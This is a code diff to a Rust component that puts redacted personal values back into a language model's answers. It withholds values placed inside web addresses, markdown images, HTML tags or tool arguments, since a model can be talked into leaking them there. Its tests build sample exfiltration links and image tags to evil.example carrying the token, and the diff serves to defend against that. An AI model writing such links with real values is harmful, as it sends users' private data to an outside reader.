@@ -1,10 +1,14 @@
 //! Restoring: tokens in a model's answer become the values that they stand for.
 
+mod addresses;
+
+use std::borrow::Cow;
 use std::collections::BTreeMap;
 use std::ops::Range;
 
 use secrecy::{ExposeSecret, SecretString};
 
+use self::addresses::addresses;
 use crate::token::fold;
 use crate::{Class, Token};
 
@@ -18,14 +22,26 @@ pub enum Destination {
     ToolArguments,
 }
 
-/// Where values may be put back. Into an answer's text always; elsewhere only if told: a model can
-/// be talked into writing a token into an address that somebody else reads.
-#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
+/// Where values may be put back. By default into an answer's text, and elsewhere only if told: a
+/// model can be talked into writing a token into an address that somebody else reads.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
 pub struct RestorePolicy {
-    /// Inside web addresses.
+    /// In what the caller reads.
+    pub answers: bool,
+    /// Inside web addresses, the destinations of links and the tags of HTML, wherever they are.
     pub urls: bool,
     /// Inside the arguments of tools.
     pub tools: bool,
+}
+
+impl Default for RestorePolicy {
+    fn default() -> Self {
+        Self {
+            answers: true,
+            urls: false,
+            tools: false,
+        }
+    }
 }
 
 /// A text with values put back.
@@ -49,18 +65,29 @@ impl std::fmt::Debug for Restored {
     }
 }
 
+impl Default for Restorer {
+    fn default() -> Self {
+        Self::new(RestorePolicy::default())
+    }
+}
+
 /// The tokens of one conversation and one caller, with their values.
 ///
 /// Nothing else is restored: a token that somebody made up, or that is another's, is text. A model
 /// may change a token's case, put spaces or marks between its characters, take its brackets away
 /// or escape them: it is known all the same. A character that is missing, or another, is not made
 /// up for.
-#[derive(Default)]
 pub struct Restorer {
     policy: RestorePolicy,
     /// By what is left of a token when case, marks and look-alikes are taken away.
     tokens: BTreeMap<String, (Class, SecretString)>,
+    /// How many bytes values may be in one text.
+    most: usize,
 }
+
+/// How many bytes of values are put into one text, unless told otherwise: a text of nothing but
+/// tokens would become many times as long.
+const MOST: usize = 16 << 20;
 
 /// The most marks that may have come between two characters of a token.
 const MARKS: usize = 4;
@@ -72,7 +99,15 @@ impl Restorer {
         Self {
             policy,
             tokens: BTreeMap::new(),
+            most: MOST,
         }
+    }
+
+    /// With so many bytes of values in one text at most; the tokens that stand behind stay.
+    #[must_use]
+    pub const fn with_most(mut self, bytes: usize) -> Self {
+        self.most = bytes;
+        self
     }
 
     /// Adds a token with its value.
@@ -83,12 +118,64 @@ impl Restorer {
     /// Puts values back into a text.
     #[must_use]
     pub fn restore(&self, destination: Destination, text: &str) -> Restored {
-        let mut restored = Restored {
-            text: String::with_capacity(text.len()),
-            restored: BTreeMap::new(),
-            withheld: 0,
+        let mut restored = BTreeMap::new();
+        let mut withheld = 0;
+        let allowed = match destination {
+            Destination::Answer => self.policy.answers,
+            Destination::ToolArguments => self.policy.tools,
         };
-        let withheld = destination == Destination::ToolArguments && !self.policy.tools;
+        // Looked for once there is a token.
+        let mut closed: Option<Vec<Range<usize>>> = None;
+        let (mut passed, mut added) = (0, 0_usize);
+        let text = self.replaced(text, |range, class, value| {
+            let value = value.expose_secret();
+            let mut is_open = allowed && value.len() <= self.most.saturating_sub(added);
+            if is_open && !self.policy.urls {
+                let closed = closed.get_or_insert_with(|| addresses(text));
+                while closed.get(passed).is_some_and(|it| it.end <= range.start) {
+                    passed += 1;
+                }
+                // One that is the token itself, whose brackets a model made `<` and `>`, is none.
+                let is_apart = |it: &Range<usize>| {
+                    it.start >= range.end || it.start == range.start && it.end <= range.end
+                };
+                is_open = closed.get(passed).is_none_or(is_apart);
+            }
+            if !is_open {
+                withheld += 1;
+                return None;
+            }
+            added += value.len();
+            *restored.entry(class.clone()).or_default() += 1;
+            Some(Cow::Borrowed(value))
+        });
+        Restored {
+            text,
+            restored,
+            withheld,
+        }
+    }
+
+    /// Puts each token's label in its place, as `[EMAIL]`, wherever it stands and whatever became of
+    /// it: for what is written down, and must not lead back to a value.
+    #[must_use]
+    pub fn label(&self, text: &str) -> String {
+        self.replaced(text, |_, class, _| Some(Cow::Owned(class.placeholder())))
+    }
+
+    /// Whether it has no token.
+    #[must_use]
+    pub fn is_empty(&self) -> bool {
+        self.tokens.is_empty()
+    }
+
+    /// A text with what is to stand in the place of its tokens; where there is nothing, they stay.
+    fn replaced<'v>(
+        &'v self,
+        text: &str,
+        mut by: impl FnMut(&Range<usize>, &Class, &'v SecretString) -> Option<Cow<'v, str>>,
+    ) -> String {
+        let mut replaced = String::with_capacity(text.len());
         let mut done = 0;
         let mut at = 0;
         while let Some(start) = self.next_start(text, at) {
@@ -97,19 +184,15 @@ impl Restorer {
                 continue;
             };
             at = range.end;
-            if withheld || !self.policy.urls && is_in_url(text, range.start) {
-                restored.withheld += 1;
+            let Some(new) = by(&range, class, value) else {
                 continue;
-            }
-            restored
-                .text
-                .push_str(text.get(done..range.start).unwrap_or_default());
-            restored.text.push_str(value.expose_secret());
-            *restored.restored.entry(class.clone()).or_default() += 1;
+            };
+            replaced.push_str(text.get(done..range.start).unwrap_or_default());
+            replaced.push_str(&new);
             done = range.end;
         }
-        restored.text.push_str(text.get(done..).unwrap_or_default());
-        restored
+        replaced.push_str(text.get(done..).unwrap_or_default());
+        replaced
     }
 
     /// Where the next word starts.
@@ -194,16 +277,6 @@ fn with_brackets(text: &str, range: Range<usize>) -> Range<usize> {
     range
 }
 
-/// Whether an offset lies in a web address: no white space back to its scheme.
-fn is_in_url(text: &str, offset: usize) -> bool {
-    let before = text.get(..offset).unwrap_or_default();
-    let word = before
-        .rfind(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '<'))
-        .map_or(0, |at| at + 1);
-    let word = before.get(word..).unwrap_or_default();
-    word.contains("://") || word.contains("www.") || word.contains("](")
-}
-
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -274,14 +347,42 @@ mod tests {
         );
         let link = format!("[x](//evil.example/{token})");
         assert_eq!(restorer.restore(Destination::Answer, &link).withheld, 1);
+        for address in [
+            format!("![x](<https://evil.example/?q=a {token}>)"),
+            format!("![x](<?q=a {token}>)"),
+            format!("<img alt=\">\" src=\"a? {token}\">"),
+            format!("[r]: a '{token}"),
+        ] {
+            let restored = restorer.restore(Destination::Answer, &address);
+            assert_eq!((restored.text, restored.withheld), (address, 1));
+        }
+        let both = format!("{token} <a {token}> {token} www.{token} {token}");
+        let restored = restorer.restore(Destination::Answer, &both);
         assert_eq!(
-            restorer
-                .restore(Destination::ToolArguments, token.as_str())
-                .withheld,
-            1
+            (restored.withheld, restored.restored.get(&Class::Email)),
+            (2, Some(&3))
         );
+        let few = self::restorer(RestorePolicy::default()).0.with_most(31);
+        let restored = few.restore(Destination::Answer, &both);
+        assert_eq!(
+            (restored.withheld, restored.restored.get(&Class::Email)),
+            (3, Some(&2))
+        );
+        let tool = restorer.restore(Destination::ToolArguments, token.as_str());
+        assert_eq!(tool.withheld, 1);
+
+        let (quiet, token) = self::restorer(RestorePolicy {
+            answers: false,
+            urls: false,
+            tools: true,
+        });
+        let answer = quiet.restore(Destination::Answer, token.as_str());
+        assert_eq!((answer.text.as_str(), answer.withheld), (token.as_str(), 1));
+        let tool = quiet.restore(Destination::ToolArguments, token.as_str());
+        assert_eq!(tool.text, "ann@example.com");
 
         let (open, token) = self::restorer(RestorePolicy {
+            answers: true,
             urls: true,
             tools: true,
         });
